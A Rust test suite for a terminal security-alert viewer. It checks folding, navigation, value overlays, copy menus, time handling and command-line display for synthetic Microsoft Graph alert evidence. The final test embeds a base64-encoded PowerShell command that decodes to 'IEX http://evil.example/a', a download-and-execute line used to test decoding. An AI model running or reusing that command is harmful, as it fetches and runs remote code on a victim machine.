//! The detail pane: everything in an alert is accessible.

use alertdeck::app::{Body, Detail, DetailView, Line, LineKind, Overlay, Pane};
use alertdeck_model::{RawAlert, Verdict};
use serde_json::{Value, json};

use super::harness::{Harness, alert, with};

fn device_with_processes() -> Value {
    let process = |pid: u32, parent: u32, name: &str, verdict: &str| {
        json!({
            "@odata.type": "#microsoft.graph.security.processEvidence", "processId": pid,
            "parentProcessId": parent, "mdeDeviceId": "m1", "verdict": verdict,
            "processCommandLine": format!("{name} --run"), "imageFile": {"fileName": name},
            "processCreationDateTime": format!("2026-11-20T00:00:{:02}Z", pid % 60),
            "parentProcessCreationDateTime": format!("2026-11-20T00:00:{:02}Z", parent % 60),
        })
    };
    with(
        alert(1),
        json!({
            "description": "What it means.\nAnd more.",
            "comments": [{"comment": "seen before", "createdByDisplayName": "Ben",
                "createdDateTime": "2026-11-20T01:00:00Z"}],
            "evidence": [
                {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "srv-1", "mdeDeviceId": "m1"},
                process(10, 1, "outlook.exe", "noThreatsFound"),
                process(20, 10, "word.exe", "suspicious"),
                process(30, 20, "powershell.exe", "malicious"),
            ],
        }),
    )
}

fn detail(console: &Harness) -> &Detail {
    console.app.current_detail().unwrap()
}

/// Returns the name of the node under the cursor.
fn node(console: &Harness) -> String {
    let detail = detail(console);
    let node = detail.node(detail.line().unwrap());
    node.map_or_else(String::new, |(id, _)| detail.body.tree.describe(id).name())
}

#[test]
fn suspicious_jumps_visit_every_item_and_report_the_end() {
    let mut console = Harness::with_alerts(&[device_with_processes()]);
    console.keys("Enter ]");
    assert!(node(&console).starts_with("word.exe"), "{}", node(&console));
    console.keys("]");
    assert!(node(&console).starts_with("powershell.exe"), "{}", node(&console));
    console.keys("]");
    assert_eq!(console.notice(), "no more flagged items below");
    assert!(node(&console).starts_with("powershell.exe"));
    console.keys("[ [");
    assert_eq!(console.notice(), "no more flagged items above");
    assert!(node(&console).starts_with("word.exe"));
}

#[test]
fn folding_hides_children_and_is_remembered() {
    let mut console = Harness::with_alerts(&[device_with_processes(), alert(2)]);
    console.keys("j Enter ]");
    let count = detail(&console).lines().len();
    console.keys("h");
    assert_eq!(detail(&console).lines().len(), count - 2, "the child and its command line");
    assert!(node(&console).starts_with("word.exe"), "the cursor stays");
    console.keys("h");
    assert!(node(&console).starts_with("outlook.exe"), "then it goes to the parent");
    console.keys("K");
    assert_eq!(console.selected(), Some("a2"));
    console.keys("J");
    assert_eq!(detail(&console).lines().len(), count - 2, "folds are kept when the alert is shown again");
    console.keys("g ]");
    console.keys("l");
    assert_eq!(detail(&console).lines().len(), count);
    console.keys("l");
    assert_eq!(detail(&console).lines().len(), count, "nothing is left to unfold");
}

#[test]
fn json_view_shows_the_alert_and_stays_for_the_next() {
    let mut console = Harness::with_alerts(&[device_with_processes(), alert(2)]);
    console.resize(400, 50);
    console.keys("Enter v");
    let text = |console: &Harness| -> Vec<String> {
        let line = |line: &alertdeck::app::Line| match &line.kind {
            LineKind::Text { line, .. } => line.clone(),
            other => panic!("no text: {other:?}"),
        };
        detail(console).lines().iter().map(line).collect()
    };
    let sent: Value = serde_json::from_str(&text(&console).join("\n")).unwrap();
    assert_eq!(sent, alert(2));
    console.keys("J");
    assert!(text(&console).concat().contains("powershell.exe --run"), "the view stays for the next alert");
    console.keys("v");
    assert_eq!(detail(&console).view(), DetailView::Alert);
}

#[test]
fn values_overlay_opens_closes_and_keeps_the_line() {
    let mut console = Harness::with_alerts(&[device_with_processes()]);
    console.keys("Enter ] Enter");
    let Some(Overlay::Values(values)) = console.app.ui.overlay() else { panic!() };
    assert!(values.values.iter().any(|value| value.text.raw() == "word.exe --run"));
    let count = values.values.len();
    console.keys("G");
    let Some(Overlay::Values(values)) = console.app.ui.overlay() else { panic!() };
    assert_eq!(values.at, count - 1);
    console.keys("q");
    assert!(console.app.ui.overlay().is_none());
    assert!(node(&console).starts_with("word.exe"));
}

#[test]
fn changed_alert_is_read_again_and_keeps_the_cursor() {
    let mut console = Harness::with_alerts(&[device_with_processes()]);
    console.keys("Enter ] ]");
    let at = detail(&console).scroll;
    console.keys("L");
    console.arrive(&[with(
        device_with_processes(),
        json!({
            "lastUpdateDateTime": "2026-11-20T09:00:00Z", "status": "inProgress",
        }),
    )]);
    console.done();
    assert_eq!(console.app.current_detail().map(|detail| detail.scroll), Some(at));
    assert!(node(&console).starts_with("powershell.exe"));
}

#[test]
fn resize_keeps_cursor_and_window_in_both_panes() {
    let alerts: Vec<_> = (1..200)
        .map(|number| {
            with(
                device_with_processes(),
                json!({"id": format!("x{number}"),
        "createdDateTime": format!("2026-11-20T{:02}:{:02}:00Z", number / 60, number % 60)}),
            )
        })
        .collect();
    let mut console = Harness::with_alerts(&alerts);
    for _ in 0..60 {
        console.keys("j");
    }
    let id = console.selected().unwrap().to_owned();
    console.keys("Enter ] ]");
    for (width, height) in [(80, 24), (60, 15), (30, 6), (10, 3), (200, 50), (120, 35)] {
        console.resize(width, height);
        assert_eq!(console.selected(), Some(id.as_str()), "{width}x{height}");
        assert!(node(&console).starts_with("powershell.exe"), "{width}x{height}: {}", node(&console));
        assert_eq!(console.app.ui.focus, Pane::Detail);
        let layout = console.app.layout();
        if let Some(area) = layout.list {
            assert!(console.line() < usize::from(area.height.max(1)), "{width}x{height}");
        }
        if let Some(area) = layout.detail {
            let scroll = detail(&console).scroll;
            assert!((scroll.top..scroll.top + usize::from(area.height.max(1))).contains(&scroll.cursor));
        }
    }
}

#[test]
fn unreadable_alert_shows_the_reason_and_its_bytes() {
    let raw = [RawAlert(bytes::Bytes::from_static(b"[\"no object\"]"))];
    let mut console = Harness::open("");
    console.load(alertdeck::app::LoadEvent::Batch(alertdeck_store::Batch::decode(&raw)));
    console.keys("Enter");
    let screen = console.screen();
    assert!(screen.contains("unreadable alert: not a JSON object"), "{screen}");
    assert!(screen.contains("no object\""), "{screen}");
}

/// Collects all strings, numbers and booleans in a document.
fn scalars(value: &Value, path: &str, found: &mut Vec<(String, String)>) {
    match value {
        Value::Null => {}
        Value::Object(members) => {
            members.iter().for_each(|(name, value)| scalars(value, &format!("{path}.{name}"), found));
        }
        Value::Array(items) => {
            items.iter().enumerate().for_each(|(at, value)| scalars(value, &format!("{path}[{at}]"), found));
        }
        Value::String(text) => found.push((path.to_owned(), text.clone())),
        other => found.push((path.to_owned(), other.to_string())),
    }
}

/// Returns the raw values of all lines in the detail pane.
fn reachable(alert: &Value) -> Vec<String> {
    let mut console = Harness::with_alerts(std::slice::from_ref(alert));
    // "All properties" is the last line and is folded at first.
    console.keys("Enter G l");
    let detail = console.app.current_detail().unwrap();
    let mut texts = Vec::new();
    for line in detail.lines() {
        texts.extend(detail.values(line).iter().map(|value| value.text.raw().to_owned()));
    }
    texts
}

fn assert_all_reachable(alert: &Value) {
    let mut sent = Vec::new();
    scalars(alert, "", &mut sent);
    let reached = reachable(alert);
    for (path, text) in sent {
        assert!(reached.contains(&text), "{path} cannot be reached: {text}");
    }
}

#[test]
fn every_value_of_an_alert_can_be_reached() {
    assert_all_reachable(&with(
        device_with_processes(),
        json!({
            "customDetails": {"a": {"b": [1, true, {"c": "deep"}]}}, "additionalData": {"x": [[["y"]]]},
            "unheardOf": 1.5, "mitreTechniques": ["T1", "T2"], "status": "undeclared", "title": "\u{1b}[31m\u{202e}",
        }),
    ));
}

#[test]
fn every_value_of_the_published_sample_can_be_reached() {
    let text = alertdeck_testing::sample("list-alerts_v2.beta.json");
    let sample: Value = serde_json::from_str(&text).unwrap();
    for alert in sample["value"].as_array().unwrap() {
        assert_all_reachable(alert);
        let body = Body::read(&RawAlert(alert.to_string().into()));
        assert_ne!(body.tree.len(), 0);
        assert!(
            body.alert.unwrap().evidence.iter().all(|item| item.verdict != Verdict::Undeclared("".into()))
        );
    }
}

/// Returns an alert with a device, and a session that reports more about that device.
fn reported_by_another() -> Value {
    with(
        alert(1),
        json!({"evidence": [
            {"@odata.type": "#microsoft.graph.security.deviceEvidence", "hostName": "pc1", "mdeDeviceId": "m1",
                "osPlatform": "Windows11"},
            {"@odata.type": "#microsoft.graph.security.hostLogonSessionEvidence", "sessionId": "s1",
                "host": {"@odata.type": "#microsoft.graph.security.deviceEvidence", "hostName": "pc1",
                    "mdeDeviceId": "m1", "osPlatform": "Windows10", "ntDomain": "CONTOSO"},
                "account": {"@odata.type": "#microsoft.graph.security.userEvidence",
                    "userAccount": {"accountName": "ana"}}},
        ]}),
    )
}

/// Returns the values shown in the overlay.
fn listed(console: &Harness) -> Vec<(String, String)> {
    let Some(Overlay::Values(values)) = console.app.ui.overlay() else { panic!("no values") };
    let values = values.values.iter().filter(|value| !value.label.ends_with("@odata.type"));
    values.map(|value| (value.label.clone(), value.text.raw().to_owned())).collect()
}

#[test]
fn values_of_a_node_include_those_reported_by_other_items() {
    let mut console = Harness::with_alerts(&[reported_by_another()]);
    console.keys("Enter j j Enter");
    let pair = |label: &str, text: &str| (label.to_owned(), text.to_owned());
    assert_eq!(
        listed(&console),
        [
            pair("hostName", "pc1"),
            pair("mdeDeviceId", "m1"),
            pair("osPlatform", "Windows11"),
            pair("reported by", "logon session s1"),
            pair("host.osPlatform", "Windows10"),
            pair("host.ntDomain", "CONTOSO"),
        ]
    );
    // Nodes that are reported only by another item also name that item.
    let mut console = Harness::with_alerts(&[reported_by_another()]);
    console.keys("Enter / a n a Enter n Enter");
    assert_eq!(
        listed(&console),
        [pair("reported by", "logon session s1"), pair("account.userAccount.accountName", "ana")]
    );
    // A search finds such a value on its node.
    console.keys("q Esc / c o n t o s o");
    assert!(node(&console).starts_with("pc1"), "{}", node(&console));
    assert!(console.screen().contains("host.ntDomain: CONTOSO"), "{}", console.screen());
}

#[test]
fn key_bar_shows_the_keys_of_the_view() {
    let mut console = Harness::with_alerts(&[device_with_processes()]);
    let bar = |console: &Harness| console.screen().lines().last().unwrap_or_default().to_owned();
    console.keys("Enter");
    assert!(bar(&console).contains("Enter values  h/l fold  ] flagged"), "{}", bar(&console));
    console.keys("v");
    assert_eq!(bar(&console), "j/k move  / find  v back  y copy  J/K alert  Esc list  ? keys");
    console.keys("/ o u t l o o k Enter");
    assert_eq!(bar(&console), "n/N next, previous  / find  y copy  Esc end search");
    console.keys("t");
    assert_eq!(bar(&console), "n/N next, previous  / find  Enter show item  T time format  Esc end search");
    console.keys("Esc");
    assert_eq!(bar(&console), "j/k move  Enter show item  t back  / find  T time format  ? keys");
}

/// A process with a command line of the given length, and one below it.
fn commands(words: usize) -> Value {
    let line = |word: &str| format!("tool.exe {}", vec![word; words].join(" "));
    let process = |id: u32, parent: u32, name: &str, command: &str| {
        json!({"@odata.type": "#microsoft.graph.security.processEvidence", "processId": id,
            "parentProcessId": parent, "processCommandLine": command, "imageFile": {"fileName": name}})
    };
    with(
        alert(1),
        json!({"evidence": [
            process(10, 1, "tool.exe", &line("argument")),
            process(20, 10, "bare.exe", "\"BARE.exe\""),
            process(30, 10, "last.exe", &line("other")),
        ]}),
    )
}

fn command_lines(console: &Harness) -> Vec<String> {
    let text = |line: &Line| match &line.kind {
        LineKind::CommandLine(_, text) => Some(text.clone()),
        _ => None,
    };
    detail(console).lines().iter().filter_map(text).collect()
}

#[test]
fn command_line_is_below_its_process() {
    let mut console = Harness::with_alerts(&[commands(3)]);
    assert_eq!(
        command_lines(&console),
        ["tool.exe argument argument argument", "tool.exe other other other"]
    );
    // The cursor stops once for each process.
    console.keys("Enter j j j");
    for name in ["tool.exe (10)", "bare.exe (20)", "last.exe (30)"] {
        assert_eq!(node(&console), name);
        console.keys("j");
    }
    console.keys("k k");
    assert_eq!(node(&console), "bare.exe (20)");
}

#[test]
fn long_command_lines_take_four_lines_and_stay_whole_in_the_values() {
    let mut console = Harness::with_alerts(&[commands(40)]);
    let lines = command_lines(&console);
    assert_eq!((lines.len(), lines[3].ends_with('…'), lines[7].ends_with('…')), (8, true, true), "{lines:?}");
    let widest = lines.iter().map(|line| line.chars().count()).max().unwrap();
    let width = console.app.layout().detail.unwrap().width;
    assert!(widest < usize::from(width), "{widest} of {width}");
    console.keys("Enter j j j p");
    assert!(console.menu().iter().any(|(_, label)| label.contains("cmdline")), "{:?}", console.menu());
}

#[test]
fn hit_in_a_visible_command_line_is_marked_there() {
    let mut console = Harness::with_alerts(&[commands(3)]);
    console.keys("Enter /");
    console.type_text("argument");
    let screen = console.screen();
    assert!(!screen.contains("processCommandLine:"), "{screen}");
    console.keys("Esc");
    let mut console = Harness::with_alerts(&[commands(40)]);
    console.keys("Enter /");
    console.type_text("tool.exe other");
    assert!(console.notice().is_empty() && console.screen().contains("1 of 1"), "{}", console.screen());
}

#[test]
fn copy_menu_of_a_node_offers_its_values() {
    let hashes =
        json!({"sha256": "a".repeat(64), "sha1": "b".repeat(40), "md5": "c".repeat(32), "fileName": "x.exe"});
    let file = json!({"@odata.type": "#microsoft.graph.security.fileEvidence", "fileDetails": hashes});
    let mut console = Harness::with_alerts(&[with(alert(1), json!({ "evidence": [file] }))]);
    console.keys("Enter j j y");
    let offered: Vec<_> = console.menu().into_iter().map(|(key, label)| format!("{key} {label}")).collect();
    for item in ["v sha256", "2 sha1", "3 md5", "4 file", "n all values on the line"] {
        assert!(offered.iter().any(|offered| offered == item), "{item}: {offered:?}");
    }
    console.keys("3");
    assert_eq!(console.copies(), ["c".repeat(32)]);
    console.keys("y n");
    let copied = console.copies().remove(0);
    assert!(copied.contains("fileDetails.fileName: x.exe") && copied.lines().count() == 5, "{copied}");
}

#[test]
fn a_time_that_cannot_be_read_is_shown_as_received_and_reported_once() {
    let odd = |number| with(alert(number), json!({"createdDateTime": "yesterday at noon"}));
    let mut console = Harness::with_alerts(&[odd(1), alert(2)]);
    assert_eq!(console.notice(), "unreadable time, shown as received and sorted last");
    assert_eq!(console.rows(), ["a2", "a1"]);
    console.keys("j");
    console.settle();
    assert!(console.screen().contains("created yesterday at noon"), "{}", console.screen());
    console.keys("x");
    let notice = console.notice().to_owned();
    console.arrive(&[odd(3)]);
    assert_eq!(console.notice(), notice);
}

#[test]
fn unreadable_time_is_shown_whole_or_as_a_question_mark() {
    let odd = with(alert(1), json!({"createdDateTime": "yesterday at noon"}));
    let console = Harness::with_alerts(&[odd, with(alert(2), json!({"createdDateTime": "noon"}))]);
    let screen = console.screen();
    assert!(screen.contains(" new     ? Alert 1") && screen.contains(" new  noon Alert 2"), "{screen}");
    assert!(screen.contains("created yesterday at noon"), "{screen}");
}

#[test]
fn values_of_a_file_begin_with_its_hashes() {
    let file = json!({"@odata.type": "#microsoft.graph.security.fileEvidence", "verdict": "malicious",
        "fileDetails": {"fileName": "update.exe", "filePath": "C:\\Temp", "sha1": "4b".repeat(20),
        "sha256": "7d".repeat(32)}});
    let mut console = Harness::with_alerts(&[with(alert(1), json!({ "evidence": [file] }))]);
    console.keys("Enter j j Enter");
    let Some(Overlay::Values(values)) = console.app.ui.overlay() else { panic!("{}", console.screen()) };
    let labels: Vec<_> = values.values.iter().map(|value| value.label.as_str()).collect();
    assert_eq!(
        labels[..5],
        ["fileDetails.sha256", "fileDetails.sha1", "fileDetails.fileName", "fileDetails.filePath", "verdict"]
    );
}

#[test]
fn only_the_first_line_of_a_value_gives_way_to_its_count() {
    let process = json!({"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 1,
        "processCommandLine": "x".repeat(100)});
    let mut console = Harness::with_alerts(&[with(alert(1), json!({ "evidence": [process] }))]);
    console.resize(80, 24);
    console.keys("Enter j j Enter");
    let Some(Overlay::Values(values)) = console.app.ui.overlay() else { panic!("{}", console.screen()) };
    let widths: Vec<_> = values.lines.iter().map(|line| line.text.len()).take(3).collect();
    assert_eq!(widths, [34, 52, 14], "{}", console.screen());
}

#[test]
fn cursor_does_not_stop_at_empty_lines() {
    let mut console = Harness::with_alerts(&[with(alert(1), json!({"description": "One."}))]);
    console.keys("Enter");
    let mut at = Vec::new();
    let cursor = |console: &Harness| console.app.current_detail().unwrap().scroll.cursor;
    while at.last() != Some(&cursor(&console)) {
        at.push(cursor(&console));
        let line = console.app.current_detail().unwrap().line().unwrap().clone();
        assert!(!matches!(line.kind, LineKind::Blank), "{at:?}");
        console.keys("j");
    }
    console.keys(&"k ".repeat(at.len()));
    assert_eq!(cursor(&console), 0);
    assert!(
        console.app.current_detail().unwrap().lines().iter().any(|line| matches!(line.kind, LineKind::Blank))
    );
}

#[test]
fn members_are_shown_in_words_and_found_in_either_form() {
    let values = json!({"status": "inProgress", "classification": "informationalExpectedActivity",
        "determination": "securityTesting"});
    let mut console = Harness::with_alerts(&[with(alert(1), values)]);
    let screen = console.screen();
    assert!(screen.contains("class expected activity") && screen.contains("in progress"), "{screen}");
    for text in ["expected activity", "informationalExpected"] {
        console.keys("Enter /");
        console.type_text(text);
        console.keys("Enter");
        assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{text}");
        console.keys("Esc Esc");
    }
}

#[test]
fn base64_in_a_command_line_is_shown_decoded() {
    // `IEX http://evil.example/a`, in UTF-16 as PowerShell takes it.
    let encoded = "SQBFAFgAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA=";
    let command = format!("powershell.exe -nop -enc {encoded}");
    let process = json!({
        "@odata.type": "#microsoft.graph.security.processEvidence", "processId": 7,
        "imageFile": {"fileName": "powershell.exe"}, "processCommandLine": command,
    });
    let mut console = Harness::with_alerts(&[with(alert(1), json!({"evidence": [process]}))]);
    console.keys("Enter");
    let screen = console.screen();
    let at = |text: &str| screen.lines().position(|line| line.contains(text));
    let (command, decoded) = (at("-nop -enc"), at("decoded  IEX http://evil.example/a"));
    assert!(command.is_some() && command < decoded, "{screen}");
    // The cursor skips it; the values of the process have it whole.
    console.keys("j j Enter");
    let screen = console.screen();
    let line = screen.lines().find(|line| line.contains("decoded from command line")).unwrap();
    assert!(line.contains("IEX http://evil.example/a"), "{screen}");
}
